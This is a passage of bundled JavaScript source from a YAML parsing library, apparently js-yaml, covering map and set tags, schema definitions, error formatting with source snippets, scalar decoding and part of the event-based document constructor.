		for (const key of Object.keys(o)) map.set(key, o[key]);
		return map;
	},
	addPair: (container, key, value) => {
		if (key !== null && typeof key === "object") return "object-based map does not support complex keys";
		const normalizedKey = String(key);
		if (normalizedKey === "__proto__") Object.defineProperty(container, normalizedKey, {
			value,
			enumerable: true,
			configurable: true,
			writable: true
		});
		else container[normalizedKey] = value;
		return "";
	},
	has: (container, key) => {
		if (key !== null && typeof key === "object") return false;
		return Object.prototype.hasOwnProperty.call(container, String(key));
	},
	keys: (container) => Object.keys(container),
	get: (container, key) => {
		const normalizedKey = String(key);
		if (!Object.prototype.hasOwnProperty.call(container, normalizedKey)) return null;
		return container[normalizedKey];
	}
});
//#endregion
//#region src/tag/mapping/set.ts
/**
* The YAML 1.1 `!!set` tag, represented as a JavaScript `Set`.
*
* @category Tags
*/
var setTag = defineMappingTag("tag:yaml.org,2002:set", {
	create: () => /* @__PURE__ */ new Set(),
	identify: (data) => data instanceof Set,
	represent: (data) => {
		const map = /* @__PURE__ */ new Map();
		for (const key of data) map.set(key, null);
		return map;
	},
	addPair: (container, key, value) => {
		if (value !== null) return "cannot resolve a set item";
		container.add(key);
		return "";
	},
	has: (container, key) => container.has(key),
	keys: (container) => container.keys(),
	get: () => null
});
//#endregion
//#region src/schema.ts
function createTagDefinitionMap() {
	return {
		scalar: Object.create(null),
		sequence: Object.create(null),
		mapping: Object.create(null)
	};
}
function createTagDefinitionListMap() {
	return {
		scalar: [],
		sequence: [],
		mapping: []
	};
}
function compileTags(tags) {
	const result = [];
	for (const tag of tags) {
		let index = result.length;
		for (let previousIndex = 0; previousIndex < result.length; previousIndex++) {
			const previous = result[previousIndex];
			if (previous.nodeKind === tag.nodeKind && previous.tagName === tag.tagName && previous.matchByTagPrefix === tag.matchByTagPrefix) {
				index = previousIndex;
				break;
			}
		}
		result[index] = tag;
	}
	return result;
}
/**
* Controls tag resolution when loading and type selection when dumping.
*
* @category Schemas
*/
var Schema = class Schema {
	tags;
	/** @internal */
	implicitScalarTags;
	/**
	* Dispatch implicit scalar resolvers by `source.charAt(0)`. Each bucket holds
	* the resolvers that may match that key, in schema order; a key absent from
	* the map uses
	* {@link Schema.implicitScalarAnyFirstChar}
	* (resolvers that declared no first-char constraint, so they apply to any
	* first character).
	*/
	implicitScalarByFirstChar;
	implicitScalarAnyFirstChar;
	/**
	* The default scalar tag (`!!str`), resolved once so the composer's fallback
	* for unresolved plain scalars avoids a keyed lookup per scalar.
	*
	* @internal
	*/
	defaultScalarTag;
	/**
	* The default container tags (`!!seq` / `!!map`), used by the dumper: when a
	* value is identified by its default tag, the tag is implicit and not
	* printed. Undefined if the schema does not define them (then such values
	* can't be dumped).
	*
	* @internal
	*/
	defaultSequenceTag;
	/** @internal */
	defaultMappingTag;
	exact;
	prefix;
	constructor(tags) {
		const compiledTags = compileTags(tags);
		const implicitScalarTags = [];
		const exact = createTagDefinitionMap();
		const prefix = createTagDefinitionListMap();
		for (const tag of compiledTags) {
			if (tag.nodeKind === "scalar" && tag.implicit) {
				if (tag.matchByTagPrefix) throw new Error("Implicit scalar tags cannot match by tag prefix");
				implicitScalarTags.push(tag);
			}
			switch (tag.nodeKind) {
				case "scalar":
					if (tag.matchByTagPrefix) prefix.scalar.push(tag);
					else exact.scalar[tag.tagName] = tag;
					break;
				case "sequence":
					if (tag.matchByTagPrefix) prefix.sequence.push(tag);
					else exact.sequence[tag.tagName] = tag;
					break;
				case "mapping": if (tag.matchByTagPrefix) prefix.mapping.push(tag);
				else exact.mapping[tag.tagName] = tag;
			}
		}
		const implicitScalarAnyFirstChar = implicitScalarTags.filter((tag) => tag.implicitFirstChars === null);
		const keys = /* @__PURE__ */ new Set();
		for (const tag of implicitScalarTags) if (tag.implicitFirstChars !== null) for (const key of tag.implicitFirstChars) keys.add(key);
		const implicitScalarByFirstChar = /* @__PURE__ */ new Map();
		for (const key of keys) implicitScalarByFirstChar.set(key, implicitScalarTags.filter((tag) => tag.implicitFirstChars === null || tag.implicitFirstChars.indexOf(key) !== -1));
		const defaultScalarTag = exact.scalar["tag:yaml.org,2002:str"];
		if (!defaultScalarTag) throw new Error("schema does not define the default scalar tag (tag:yaml.org,2002:str)");
		this.tags = compiledTags;
		this.implicitScalarTags = implicitScalarTags;
		this.implicitScalarByFirstChar = implicitScalarByFirstChar;
		this.implicitScalarAnyFirstChar = implicitScalarAnyFirstChar;
		this.defaultScalarTag = defaultScalarTag;
		this.defaultSequenceTag = exact.sequence["tag:yaml.org,2002:seq"];
		this.defaultMappingTag = exact.mapping["tag:yaml.org,2002:map"];
		this.exact = exact;
		this.prefix = prefix;
	}
	/** @internal */
	lookupScalarTag(tagName) {
		const exactTag = this.exact.scalar[tagName];
		if (exactTag) return exactTag;
		for (const tag of this.prefix.scalar) if (tagName.startsWith(tag.tagName)) return tag;
	}
	/** @internal */
	lookupSequenceTag(tagName) {
		const exactTag = this.exact.sequence[tagName];
		if (exactTag) return exactTag;
		for (const tag of this.prefix.sequence) if (tagName.startsWith(tag.tagName)) return tag;
	}
	/** @internal */
	lookupMappingTag(tagName) {
		const exactTag = this.exact.mapping[tagName];
		if (exactTag) return exactTag;
		for (const tag of this.prefix.mapping) if (tagName.startsWith(tag.tagName)) return tag;
	}
	/** @internal */
	resolveImplicitScalarTag(source) {
		const candidates = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
		for (const tag of candidates) {
			const value = tag.resolve(source, false, tag.tagName);
			if (value !== NOT_RESOLVED) return {
				value,
				tag
			};
		}
		const tag = this.defaultScalarTag;
		return {
			value: tag.resolve(source, false, tag.tagName),
			tag
		};
	}
	/**
	* Creates a new schema with the specified tags added. If a tag already
	* exists, it is replaced by the specified tag.
	*
	* @example
	*
	* ```javascript
	* import { CORE_SCHEMA, mergeTag, realMapTag } from 'js-yaml'
	*
	* const schema = CORE_SCHEMA.withTags(mergeTag, realMapTag)
	* ```
	*/
	withTags(...tags) {
		let flatTags = [];
		for (const tag of tags) flatTags = flatTags.concat(tag);
		return new Schema([...this.tags, ...flatTags]);
	}
};
/**
* The YAML 1.2 Failsafe Schema: strings, sequences, and mappings.
*
* @category Schemas
*/
var FAILSAFE_SCHEMA = new Schema([
	strTag,
	seqTag,
	mapTag
]);
/**
* The YAML 1.2 JSON Schema. It uses JSON scalar forms while retaining YAML
* collection syntax.
*
* @category Schemas
*/
var JSON_SCHEMA = new Schema([
	...FAILSAFE_SCHEMA.tags,
	nullJsonTag,
	boolJsonTag,
	intJsonTag,
	floatJsonTag
]);
/**
* The default schema for the loaders. Note, {@link CORE_SCHEMA} comes
* without the `!!merge` tag. You can easily enable it if needed.
*
* @example
* Enable {@link mergeTag}:
*
* ```javascript
* import { load, CORE_SCHEMA, mergeTag } from 'js-yaml'
*
* try {
*   load(data, { schema: CORE_SCHEMA.withTags(mergeTag) })
* } catch (e) {
*   console.error(e)
* }
* ```
*
* @category Schemas
*/
var CORE_SCHEMA = new Schema([
	...FAILSAFE_SCHEMA.tags,
	nullCoreTag,
	boolCoreTag,
	intCoreTag,
	floatCoreTag
]);
/**
* YAML 1.1-compatible schema.
*
* @category Schemas
*/
var YAML11_SCHEMA = new Schema([
	...FAILSAFE_SCHEMA.tags,
	nullYaml11Tag,
	boolYaml11Tag,
	intYaml11Tag,
	floatYaml11Tag,
	timestampTag,
	mergeTag,
	binaryTag,
	omapTag,
	pairsTag,
	setTag
]);
/**
* The dumper schema for maximum compatibility. It combines all supported type
* variants from YAML 1.1 and YAML 1.2 so strings matching any of them are
* quoted. This makes the generated YAML more compatible with other parsers.
*
* The schema is based on YAML 1.1, but extends `!!int` and `!!float` to accept
* both YAML 1.1 and Core Schema forms, since Core Schema supports some forms
* that YAML 1.1 does not.
*
* @category Schemas
*/
var DUMP_SCHEMA = YAML11_SCHEMA.withTags({
	...intYaml11Tag,
	resolve: (source, isExplicit, tagName) => {
		const result = intYaml11Tag.resolve(source, isExplicit, tagName);
		return result === NOT_RESOLVED ? intCoreTag.resolve(source, isExplicit, tagName) : result;
	}
}, {
	...floatYaml11Tag,
	resolve: (source, isExplicit, tagName) => {
		const result = floatYaml11Tag.resolve(source, isExplicit, tagName);
		return result === NOT_RESOLVED ? floatCoreTag.resolve(source, isExplicit, tagName) : result;
	}
});
//#endregion
//#region src/tag/mapping/real_map.ts
/**
* Recommended when non-string keys are actually needed. It uses native
* JavaScript `Map` objects, so keys keep their constructed types instead of
* being converted to strings.
*
* It is not the default to avoid widespread breaking changes in existing
* projects. `Map` has a different access API and does not pass deep equality
* checks against `{}`-based fixtures. Alongside the other changes in v5,
* making it the default was considered too disruptive.
*
* If these differences are acceptable for your project, we recommend using
* {@link realMapTag} to guarantee the absence of problems and side effects.
*
* @example
* Enable {@link realMapTag}:
*
* ```javascript
* import { load, CORE_SCHEMA, realMapTag } from 'js-yaml'
*
* try {
*   load(data, { schema: CORE_SCHEMA.withTags(realMapTag) })
* } catch (e) {
*   console.error(e)
* }
* ```
*
* @category Tags
*/
var realMapTag = defineMappingTag("tag:yaml.org,2002:map", {
	create: () => /* @__PURE__ */ new Map(),
	addPair: (container, key, value) => {
		container.set(key, value);
		return "";
	},
	has: (container, key) => container.has(key),
	keys: (container) => container.keys(),
	get: (container, key) => container.get(key),
	identify: (data) => data instanceof Map || isPlainObject(data),
	represent: (data) => {
		if (data instanceof Map) return data;
		const map = /* @__PURE__ */ new Map();
		const obj = data;
		for (const key of Object.keys(obj)) map.set(key, obj[key]);
		return map;
	}
});
//#endregion
//#region src/tag/mapping/legacy_map.ts
function normalizeKey(key) {
	if (Array.isArray(key)) {
		const array = Array.prototype.slice.call(key);
		for (let index = 0; index < array.length; index++) {
			if (Array.isArray(array[index])) return null;
			if (typeof array[index] === "object" && Object.prototype.toString.call(array[index]) === "[object Object]") array[index] = "[object Object]";
		}
		return String(array);
	}
	if (typeof key === "object" && Object.prototype.toString.call(key) === "[object Object]") return "[object Object]";
	return String(key);
}
/**
* This implementation exists solely to reproduce v4 behavior exactly. Its use
* is strongly discouraged. If complex or non-string keys are needed, use
* {@link realMapTag} instead.
*
* @category Tags
*/
var legacyMapTag = defineMappingTag("tag:yaml.org,2002:map", {
	create: () => ({}),
	identify: isPlainObject,
	represent: (o) => {
		const map = /* @__PURE__ */ new Map();
		for (const key of Object.keys(o)) map.set(key, o[key]);
		return map;
	},
	addPair: (container, key, value) => {
		const normalizedKey = normalizeKey(key);
		if (normalizedKey === null) return "nested arrays are not supported inside keys";
		if (normalizedKey === "__proto__") Object.defineProperty(container, normalizedKey, {
			value,
			enumerable: true,
			configurable: true,
			writable: true
		});
		else container[normalizedKey] = value;
		return "";
	},
	has: (container, key) => {
		const normalizedKey = normalizeKey(key);
		return normalizedKey !== null && Object.prototype.hasOwnProperty.call(container, normalizedKey);
	},
	keys: (container) => Object.keys(container),
	get: (container, key) => {
		const normalizedKey = String(key);
		if (!Object.prototype.hasOwnProperty.call(container, normalizedKey)) return null;
		return container[normalizedKey];
	}
});
//#endregion
//#region src/common/snippet.ts
var DEFAULT_SNIPPET_OPTIONS = {
	maxLength: 79,
	indent: 1,
	linesBefore: 3,
	linesAfter: 2
};
function getLine(buffer, lineStart, lineEnd, position, maxLineLength) {
	let head = "";
	let tail = "";
	const maxHalfLength = Math.floor(maxLineLength / 2) - 1;
	if (position - lineStart > maxHalfLength) {
		head = " ... ";
		lineStart = position - maxHalfLength + head.length;
	}
	if (lineEnd - position > maxHalfLength) {
		tail = " ...";
		lineEnd = position + maxHalfLength - tail.length;
	}
	return {
		str: head + buffer.slice(lineStart, lineEnd).replace(/\t/g, "→") + tail,
		pos: position - lineStart + head.length
	};
}
function padStart(string, max) {
	return " ".repeat(Math.max(max - string.length, 0)) + string;
}
function makeSnippet(mark, options) {
	if (!mark.buffer) return null;
	const opts = {
		...DEFAULT_SNIPPET_OPTIONS,
		...options
	};
	const re = /\r?\n|\r|\0/g;
	const lineStarts = [0];
	const lineEnds = [];
	let match;
	let foundLineNo = -1;
	while (match = re.exec(mark.buffer)) {
		lineEnds.push(match.index);
		lineStarts.push(match.index + match[0].length);
		if (mark.position <= match.index && foundLineNo < 0) foundLineNo = lineStarts.length - 2;
	}
	if (foundLineNo < 0) foundLineNo = lineStarts.length - 1;
	let result = "";
	const lineNoLength = Math.min(mark.line + opts.linesAfter, lineEnds.length).toString().length;
	const maxLineLength = opts.maxLength - (opts.indent + lineNoLength + 3);
	for (let i = 1; i <= opts.linesBefore; i++) {
		if (foundLineNo - i < 0) break;
		const line = getLine(mark.buffer, lineStarts[foundLineNo - i], lineEnds[foundLineNo - i], mark.position - (lineStarts[foundLineNo] - lineStarts[foundLineNo - i]), maxLineLength);
		result = `${" ".repeat(opts.indent)}${padStart((mark.line - i + 1).toString(), lineNoLength)} | ${line.str}\n${result}`;
	}
	const line = getLine(mark.buffer, lineStarts[foundLineNo], lineEnds[foundLineNo], mark.position, maxLineLength);
	result += `${" ".repeat(opts.indent)}${padStart((mark.line + 1).toString(), lineNoLength)} | ${line.str}\n`;
	result += `${"-".repeat(opts.indent + lineNoLength + 3 + line.pos)}^\n`;
	for (let i = 1; i <= opts.linesAfter; i++) {
		if (foundLineNo + i >= lineEnds.length) break;
		const line = getLine(mark.buffer, lineStarts[foundLineNo + i], lineEnds[foundLineNo + i], mark.position - (lineStarts[foundLineNo] - lineStarts[foundLineNo + i]), maxLineLength);
		result += `${" ".repeat(opts.indent)}${padStart((mark.line + i + 1).toString(), lineNoLength)} | ${line.str}\n`;
	}
	return result.replace(/\n$/, "");
}
//#endregion
//#region src/common/exception.ts
function formatError(exception, compact) {
	let where = "";
	if (!exception.mark) return exception.reason;
	if (exception.mark.name) where += `in "${exception.mark.name}" `;
	where += `(${exception.mark.line + 1}:${exception.mark.column + 1})`;
	if (!compact && exception.mark.snippet) where += `\n\n${exception.mark.snippet}`;
	return `${exception.reason} ${where}`;
}
/**
* A YAML error. Unlike an ordinary `Error`, it adds a source snippet showing
* the location of the problem to the error message, when available.
*
* @category Main
*/
var YAMLException = class YAMLException extends Error {
	reason;
	mark;
	/**
	* Optional `mark` contains source snippet data. Usually, use
	* {@link YAMLException.throwAt} instead of passing it directly.
	*/
	constructor(reason, mark) {
		super();
		this.name = "YAMLException";
		this.reason = reason;
		this.mark = mark;
		this.message = formatError(this, false);
		if (Error.captureStackTrace) Error.captureStackTrace(this, this.constructor);
	}
	/**
	* Returns the formatted error, omitting the source snippet in compact mode.
	*/
	toString(compact) {
		return `${this.name}: ${formatError(this, compact)}`;
	}
	/**
	* Builds a YAMLException with a source snippet and throws it. `source` is
	* the raw input text; `position` is an offset into it.
	*/
	static throwAt(source, position, message, filename = "") {
		let line = 0;
		let lineStart = 0;
		for (let index = 0; index < position; index++) {
			const ch = source.charCodeAt(index);
			if (ch === 10) {
				line++;
				lineStart = index + 1;
			} else if (ch === 13) {
				line++;
				if (source.charCodeAt(index + 1) === 10) index++;
				lineStart = index + 1;
			}
		}
		const mark = {
			name: filename,
			buffer: source,
			position,
			line,
			column: position - lineStart
		};
		mark.snippet = makeSnippet(mark);
		throw new YAMLException(message, mark);
	}
};
//#endregion
//#region src/parser/events.ts
/** @category Events */
var EVENT_ID = {
	DOCUMENT: 1,
	SEQUENCE: 2,
	MAPPING: 3,
	SCALAR: 4,
	ALIAS: 5,
	POP: 6
};
/** @category Nodes */
var SCALAR_STYLE = {
	PLAIN: 1,
	SINGLE_QUOTED: 2,
	DOUBLE_QUOTED: 3,
	LITERAL_BLOCK: 4,
	FOLDED_BLOCK: 5
};
/** @category Nodes */
var COLLECTION_STYLE = {
	BLOCK: 1,
	FLOW: 2
};
/** @category Nodes */
var CHOMPING_MODE = {
	CLIP: 1,
	STRIP: 2,
	KEEP: 3
};
//#endregion
//#region src/parser/parser_scalar.ts
var NO_RANGE$3 = -1;
function simpleEscapeSequence(c) {
	switch (c) {
		case 48: return "\0";
		case 97: return "\x07";
		case 98: return "\b";
		case 116: return "	";
		case 9: return "	";
		case 110: return "\n";
		case 118: return "\v";
		case 102: return "\f";
		case 114: return "\r";
		case 101: return "\x1B";
		case 32: return " ";
		case 34: return "\"";
		case 47: return "/";
		case 92: return "\\";
		case 78: return "";
		case 95: return "\xA0";
		case 76: return "\u2028";
		case 80: return "\u2029";
		default: return "";
	}
}
var simpleEscapeCheck = new Array(256);
var simpleEscapeMap = new Array(256);
for (let i = 0; i < 256; i++) {
	simpleEscapeCheck[i] = simpleEscapeSequence(i) ? 1 : 0;
	simpleEscapeMap[i] = simpleEscapeSequence(i);
}
function charFromCodepoint(c) {
	if (c <= 65535) return String.fromCharCode(c);
	return String.fromCharCode((c - 65536 >> 10) + 55296, (c - 65536 & 1023) + 56320);
}
function fromHexCode$1(c) {
	if (c >= 48 && c <= 57) return c - 48;
	return (c | 32) - 97 + 10;
}
function escapedHexLen$1(c) {
	if (c === 120) return 2;
	if (c === 117) return 4;
	return 8;
}
function skipFoldedBreaks(input, position, end) {
	let breaks = 0;
	while (position < end) {
		const ch = input.charCodeAt(position);
		if (ch === 10) {
			breaks++;
			position++;
		} else if (ch === 13) {
			breaks++;
			position++;
			if (input.charCodeAt(position) === 10) position++;
		} else if (ch === 32 || ch === 9) position++;
		else break;
	}
	return {
		position,
		breaks
	};
}
function foldedBreaks(count) {
	if (count === 1) return " ";
	return "\n".repeat(count - 1);
}
function getPlainValue(input, start, end) {
	let result = "";
	let position = start;
	let captureStart = start;
	let captureEnd = start;
	while (position < end) {
		const ch = input.charCodeAt(position);
		if (ch === 10 || ch === 13) {
			result += input.slice(captureStart, captureEnd);
			const fold = skipFoldedBreaks(input, position, end);
			result += foldedBreaks(fold.breaks);
			position = captureStart = captureEnd = fold.position;
		} else {
			position++;
			if (ch !== 32 && ch !== 9) captureEnd = position;
		}
	}
	return result + input.slice(captureStart, captureEnd);
}
function getSingleQuotedValue(input, start, end) {
	let result = "";
	let position = start;
	let captureStart = start;
	let captureEnd = start;
	while (position < end) {
		const ch = input.charCodeAt(position);
		if (ch === 39) {
			result += input.slice(captureStart, position) + "'";
			position += 2;
			captureStart = captureEnd = position;
		} else if (ch === 10 || ch === 13) {
			result += input.slice(captureStart, captureEnd);
			const fold = skipFoldedBreaks(input, position, end);
			result += foldedBreaks(fold.breaks);
			position = captureStart = captureEnd = fold.position;
		} else {
			position++;
			if (ch !== 32 && ch !== 9) captureEnd = position;
		}
	}
	return result + input.slice(captureStart, end);
}
function getDoubleQuotedValue(input, start, end) {
	let result = "";
	let position = start;
	let captureStart = start;
	let captureEnd = start;
	while (position < end) {
		const ch = input.charCodeAt(position);
		if (ch === 92) {
			result += input.slice(captureStart, position);
			position++;
			const escaped = input.charCodeAt(position);
			if (escaped === 10 || escaped === 13) position = skipFoldedBreaks(input, position, end).position;
			else if (escaped < 256 && simpleEscapeCheck[escaped]) {
				result += simpleEscapeMap[escaped];
				position++;
			} else {
				let hexLength = escapedHexLen$1(escaped);
				let hexResult = 0;
				for (; hexLength > 0; hexLength--) {
					position++;
					const digit = fromHexCode$1(input.charCodeAt(position));
					hexResult = (hexResult << 4) + digit;
				}
				result += charFromCodepoint(hexResult);
				position++;
			}
			captureStart = captureEnd = position;
		} else if (ch === 10 || ch === 13) {
			result += input.slice(captureStart, captureEnd);
			const fold = skipFoldedBreaks(input, position, end);
			result += foldedBreaks(fold.breaks);
			position = captureStart = captureEnd = fold.position;
		} else {
			position++;
			if (ch !== 32 && ch !== 9) captureEnd = position;
		}
	}
	return result + input.slice(captureStart, end);
}
function getBlockValue(input, start, end, indent, chomping, folded) {
	const textIndent = indent < 0 ? 0 : indent;
	const region = input.slice(start, end).replace(/\r\n?/g, "\n");
	const lines = region === "" ? [] : (region.endsWith("\n") ? region.slice(0, -1) : region).split("\n");
	let result = "";
	let didReadContent = false;
	let emptyLines = 0;
	let atMoreIndented = false;
	for (const line of lines) {
		let column = 0;
		while (column < textIndent && line.charCodeAt(column) === 32) column++;
		if (indent < 0 || column >= line.length) {
			emptyLines++;
			continue;
		}
		const content = line.slice(textIndent);
		const first = content.charCodeAt(0);
		if (folded) {
			if (first === 32 || first === 9) {
				atMoreIndented = true;
				result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
			} else if (atMoreIndented) {
				atMoreIndented = false;
				result += "\n".repeat(emptyLines + 1);
			} else if (emptyLines === 0) {
				if (didReadContent) result += " ";
			} else result += "\n".repeat(emptyLines);
		} else result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
		result += content;
		didReadContent = true;
		emptyLines = 0;
	}
	if (chomping === CHOMPING_MODE.KEEP) result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
	else if (chomping !== CHOMPING_MODE.STRIP) {
		if (didReadContent) result += "\n";
	}
	return result;
}
/**
* Decodes the scalar referenced by event offsets in `input`.
*
* @category Events
*/
function getScalarValue(input, scalar) {
	if (scalar.valueStart === NO_RANGE$3) return "";
	const { valueStart, valueEnd } = scalar;
	if (scalar.fast) return input.slice(valueStart, valueEnd);
	switch (scalar.style) {
		case SCALAR_STYLE.SINGLE_QUOTED: return getSingleQuotedValue(input, valueStart, valueEnd);
		case SCALAR_STYLE.DOUBLE_QUOTED: return getDoubleQuotedValue(input, valueStart, valueEnd);
		case SCALAR_STYLE.LITERAL_BLOCK: return getBlockValue(input, valueStart, valueEnd, scalar.indent, scalar.chomping, false);
		case SCALAR_STYLE.FOLDED_BLOCK: return getBlockValue(input, valueStart, valueEnd, scalar.indent, scalar.chomping, true);
		default: return getPlainValue(input, valueStart, valueEnd);
	}
}
//#endregion
//#region src/common/tagname.ts
var DEFAULT_TAG_HANDLERS = Object.assign(Object.create(null), {
	"!": "!",
	"!!": "tag:yaml.org,2002:"
});
var TAG_SUFFIX_CHARS = "-#;/?:@&=+$_.~*'()";
var TAG_URI_CHARS = TAG_SUFFIX_CHARS + "!,[]";
var HEX = "0123456789ABCDEF";
function percentByte(byte) {
	return "%" + HEX[byte >> 4] + HEX[byte & 15];
}
function tagPercentEncode(source, isSuffix) {
	const allowed = isSuffix ? TAG_SUFFIX_CHARS : TAG_URI_CHARS;
	let result = "";
	for (let index = 0; index < source.length; index++) {
		let ch = source.charCodeAt(index);
		if (ch >= 48 && ch <= 57 || ch >= 65 && ch <= 90 || ch >= 97 && ch <= 122 || allowed.includes(source[index])) {
			result += source[index];
			continue;
		}
		if (ch >= 55296 && ch <= 56319) ch = 65536 + ((ch & 1023) << 10) + (source.charCodeAt(++index) & 1023);
		if (ch < 128) result += percentByte(ch);
		else if (ch < 2048) result += percentByte(192 | ch >> 6) + percentByte(128 | ch & 63);
		else if (ch < 65536) result += percentByte(224 | ch >> 12) + percentByte(128 | ch >> 6 & 63) + percentByte(128 | ch & 63);
		else result += percentByte(240 | ch >> 18) + percentByte(128 | ch >> 12 & 63) + percentByte(128 | ch >> 6 & 63) + percentByte(128 | ch & 63);
	}
	return result;
}
function tagPercentDecode(source) {
	let result = "";
	let index = 0;
	while (index < source.length) {
		if (source.charCodeAt(index) !== 37) {
			result += source[index++];
			continue;
		}
		let ch = parseInt(source.slice(index + 1, index + 3), 16);
		index += 3;
		if (ch >= 192) {
			let remaining = ch < 224 ? 1 : ch < 240 ? 2 : 3;
			ch &= (1 << 6 - remaining) - 1;
			while (remaining-- > 0) {
				ch = ch << 6 | parseInt(source.slice(index + 1, index + 3), 16) & 63;
				index += 3;
			}
		}
		if (ch < 65536) result += String.fromCharCode(ch);
		else {
			ch -= 65536;
			result += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
		}
	}
	return result;
}
function tagNameFull(rawTag, tagHandlers) {
	if (rawTag.startsWith("!<") && rawTag.endsWith(">")) return tagPercentDecode(rawTag.slice(2, -1));
	const handleEnd = rawTag.indexOf("!", 1);
	const handle = handleEnd === -1 ? "!" : rawTag.slice(0, handleEnd + 1);
	return tagPercentDecode(tagHandlers?.[handle] ?? DEFAULT_TAG_HANDLERS[handle] ?? handle) + tagPercentDecode(rawTag.slice(handle.length));
}
function tagNameShort(fullTag) {
	let tag = fullTag;
	if (tag.charCodeAt(0) === 33) {
		tag = tag.slice(1);
		return `!${tagPercentEncode(tag, true)}`;
	}
	if (tag.slice(0, 18) === "tag:yaml.org,2002:") return `!!${tagPercentEncode(tag.slice(18), true)}`;
	return `!<${tagPercentEncode(tag, false)}>`;
}
//#endregion
//#region src/parser/constructor.ts
var NO_RANGE$2 = (/* unused pure expression or super */ null && (-1));
var MERGE_TAG_NAME = "tag:yaml.org,2002:merge";
var DEFAULT_CONSTRUCTOR_OPTIONS = {
	filename: "",
	schema: CORE_SCHEMA,
	json: false,
	maxTotalMergeKeys: 1e4,
	maxAliases: -1
};
function eventPosition$1(event) {
	if ("tagStart" in event && event.tagStart !== NO_RANGE$2) return event.tagStart;
	if ("anchorStart" in event && event.anchorStart !== NO_RANGE$2) return event.anchorStart;
	if ("valueStart" in event && event.valueStart !== NO_RANGE$2) return event.valueStart;
	if ("start" in event) return event.start;
	return 0;
}
function throwError$1(state, message) {
	YAMLException.throwAt(state.source, state.position, message, state.filename);
}
function finalizeCollection(state, position, tag, carrier) {
	try {
		return tag.finalize(carrier);
	} catch (error) {
		if (error instanceof YAMLException) throw error;
		YAMLException.throwAt(state.source, position, error instanceof Error ? error.message : String(error), state.filename);
	}
}
function constructScalar(state, event) {
	const source = getScalarValue(state.source, event);
	const rawTag = event.tagStart === NO_RANGE$2 ? "" : state.source.slice(event.tagStart, event.tagEnd);
	const strTag = state.schema.defaultScalarTag;
	if (rawTag !== "") {
		if (rawTag === "!") return {
			value: source,
			tag: strTag
		};
		const tagName = tagNameFull(rawTag, state.tagHandlers);
		const scalarTag = state.schema.lookupScalarTag(tagName);
		if (scalarTag) {
			const result = scalarTag.resolve(source, true, tagName);
			if (result === NOT_RESOLVED) throwError$1(state, `cannot resolve a node with !<${tagName}> explicit tag`);
			return {
				value: result,
				tag: scalarTag
			};
		}
		const collectionTagDef = state.schema.lookupMappingTag(tagName) ?? state.schema.lookupSequenceTag(tagName);
		if (collectionTagDef) {
			if (source !== "") throwError$1(state, `cannot resolve a node with !<${tagName}> explicit tag`);
			const carrier = collectionTagDef.create(tagName);
			return {
				value: collectionTagDef.carrierIsResult ? carrier : finalizeCollection(state, state.position, collectionTagDef, carrier),
				tag: collectionTagDef
			};
		}
		throwError$1(state, `unknown scalar tag !<${tagName}>`);
	}
	if (event.style === SCALAR_STYLE.PLAIN) return state.schema.resolveImplicitScalarTag(source);
	return {
		value: strTag.resolve(source, false, strTag.tagName),
		tag: strTag
	};
}
function collectionTagName(state, event, defaultTagName) {
	const rawTag = event.tagStart === NO_RANGE$2 ? "" : state.source.slice(event.tagStart, event.tagEnd);
	return rawTag === "" || rawTag === "!" ? defaultTagName : tagNameFull(rawTag, state.tagHandlers);
}
function isMappingTag(tag) {
	return tag.nodeKind === "mapping";
}
function chargeMergeWork(state) {
	state.totalMergeKeys++;
	if (state.maxTotalMergeKeys !== -1 && state.totalMergeKeys > state.maxTotalMergeKeys) throwError$1(state, `merge keys exceeded maxTotalMergeKeys (${state.maxTotalMergeKeys})`);
}
function mergeKeys(state, frame, source, sourceTag) {
	chargeMergeWork(state);
	for (const sourceKey of sourceTag.keys(source)) {
		chargeMergeWork(state);
		if (frame.tag.has(frame.value, sourceKey)) continue;
		const err = frame.tag.addPair(frame.value, sourceKey, sourceTag.get(source, sourceKey));
		if (err) throwError$1(state, err);
		frame.overridable ??= /* @__PURE__ */ new Set();
		frame.overridable.add(sourceKey);
	}
}
function mergeSource(state, frame, source, sourceTag) {
	state.position = frame.keyPosition;
	if (isMappingTag(sourceTag)) mergeKeys(state, frame, source, sourceTag);
	else if (sourceTag.nodeKind === "sequence" && Array.isArray(source)) {
		if (source.length > 100) throwError$1(state, "abnormal merge sequence size");
		for (const element of source) {
			const elementTag = state.nodeTags.get(element);
			if (!elementTag) throwError$1(state, "cannot merge mappings; the provided source object is unacceptable");
			mergeKeys(state, frame, element, elementTag);
		}
	} else throwError$1(state, "cannot merge mappings; the provided source object is unacceptable");
}
function addMappingValue(state, frame, key, value, tag) {
	state.position = frame.keyPosition;
	if (frame.keyIsMerge) {
		mergeSource(state, frame, value, tag);
		return;
	}
	if (!state.json && frame.tag.has(frame.value, key) && !frame.overridable?.has(key)) throwError$1(state, "duplicated mapping key");
	const err = frame.tag.addPair(frame.value, key, value);
	if (err) throwError$1(state, err);
	frame.overridable?.delete(key);
}
function addValue(state, value, tag) {
	const frame = state.frames[state.frames.length - 1];
	if (frame.kind === "document") {
		frame.value = value;
		frame.hasValue = true;
	} else if (frame.kind === "sequence") {
		if (isMappingTag(tag)) state.nodeTags.set(value, tag);
		const err = frame.tag.addItem(frame.value, value, frame.index++);
		if (err) throwError$1(state, err);
	} else if (frame.hasKey) {
		const key = frame.key;
		frame.key = void 0;
		frame.hasKey = false;
		addMappingValue(state, frame, key, value, tag);
	} else {
		frame.key = value;
		frame.keyPosition = state.position;
		frame.hasKey = true;
		frame.keyIsMerge = tag.tagName === MERGE_TAG_NAME;
	}
}
function storeAnchor(state, event, value, tag, isValueFinal) {
	if (event.anchorStart !== NO_RANGE$2) {
		const anchor = {
			value,
			tag,
			isValueFinal
		};
		state.anchors.set(state.source.slice(event.anchorStart, event.anchorEnd), anchor);
		return anchor;
	}
	return null;
}
/**
* Constructs JavaScript documents directly from parser events, without an
* intermediate AST.
*
* @category Events
*/
function constructFromEvents(events, options) {
	const state = {
		...DEFAULT_CONSTRUCTOR_OPTIONS,
		...options,
		events,
		documents: [],
		eventIndex: 0,
		position: 0,
		frames: [],
		anchors: /* @__PURE__ */ new Map(),
		nodeTags: /* @__PURE__ */ new Map(),
		tagHandlers: Object.create(null),
		totalMergeKeys: 0,
		aliasCount: 0
	};
